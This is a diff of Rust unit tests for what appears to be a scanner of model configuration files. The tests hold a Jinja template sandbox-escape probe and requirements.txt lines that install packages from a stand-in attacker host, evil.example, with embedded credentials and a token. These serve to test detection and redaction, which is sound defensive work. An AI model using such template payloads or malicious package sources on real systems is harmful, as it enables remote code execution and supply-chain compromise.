@@ -79,6 +79,10 @@ fn small_files_hold_the_contract() {
         ("bad/requirements.txt", "requirements"),
         ("bad/evil.pth", "python-path"),
         ("bad/pip.conf", "ini-config"),
+        ("bad/comments.jsonc", "json-config"),
+        ("bad/triton/config.pbtxt", "triton-config"),
+        ("bad/ollama_climb/Modelfile", "modelfile"),
+        ("bad/docker/Dockerfile", "dockerfile"),
     ] {
         conformance::<Configuration>(file, &std::fs::read(folder.join(file)).unwrap(), format);
     }
@@ -91,6 +95,55 @@ fn templates_are_handed_on() {
     let texts: Vec<&str> = report.children.iter().map(|c| std::str::from_utf8(&c.bytes).unwrap()).collect();
     assert_eq!(texts, ["{{ messages[0] }}", "{{ tools }}"]);
     assert!(report.children.iter().all(|c| c.name == "chat_template.jinja" && c.hint == "jinja"));
+}
+
+/// An escape from a sandbox is one under any key; what only has braces is none.
+#[test]
+fn templates_under_other_keys_are_handed_on() {
+    let text = r#"{"greeting": "{{ ''.__class__.__mro__ }}", "prompt_template": "{% for m in x %}{{ m }}{% endfor %}",
+        "a": "{{ x }}", "b": "__class__ {", "prompt": "{{\"a\": 1}}", "license_template": "{% if x %}"}"#;
+    let (report, _) = scan_artifact::<Configuration>(Memory::new("x.json", text.as_bytes()), "json-config");
+    let texts: Vec<&str> = report.children.iter().map(|c| std::str::from_utf8(&c.bytes).unwrap()).collect();
+    assert_eq!(texts, ["{{ ''.__class__.__mro__ }}", "{% for m in x %}{{ m }}{% endfor %}"]);
+}
+
+/// A module beside the index makes a part of the pipeline the repository's own, whatever it is called.
+#[test]
+fn a_part_of_a_pipeline_may_lie_beside_its_index() {
+    let text = br#"{"_class_name": "FluxPipeline", "transformer": ["flux", "Net"]}"#;
+    let index = || Memory::new("model_index.json", text);
+    assert!(scan_artifact::<Configuration>(index(), "json-config").0.findings.is_empty());
+    let beside = index().siblings(&["flux.py", "README.md"]);
+    assert_eq!(scan_artifact::<Configuration>(beside, "json-config").0.of("S1012").len(), 1);
+}
+
+/// Names in what is shown keep their secrets.
+#[test]
+fn secrets_are_not_shown() {
+    let token = "hf_".to_owned() + &"aB3dE".repeat(7);
+    let text = format!(
+        "--index-url https://me:hunter2x@evil.example/simple\ngit+https://{token}@evil.example/x.git\nx @ https://evil.example/{token}/x.whl\n"
+    );
+    let (report, _) = scan_artifact::<Configuration>(Memory::new("requirements.txt", text.as_bytes()), "requirements");
+    let shown = format!("{report:?}");
+    assert_eq!(report.of("S1015").len(), 3, "{shown}");
+    assert!(!shown.contains("hunter2x") && !shown.contains("hf_aB"), "{shown}");
+}
+
+/// A file's own name is not needed to tell what it is.
+#[test]
+fn the_content_tells_deployments() {
+    for (file, format) in [
+        ("good/triton/config.pbtxt", "triton-config"),
+        ("good/ollama/Modelfile", "modelfile"),
+        ("good/docker/Dockerfile", "dockerfile"),
+    ] {
+        let bytes = std::fs::read(labels::fixtures().join("configuration").join(file)).unwrap();
+        assert_eq!(Configuration::probe(&bytes, bytes.len() as u64), [format], "{file}");
+    }
+    for text in ["From: me@example.org\nTo: you\n", "from x import y\nrun = 1\n", "name: x\nversion: 1\n"] {
+        assert!(Configuration::probe(text.as_bytes(), text.len() as u64).is_empty(), "{text}");
+    }
 }
 
 #[test]
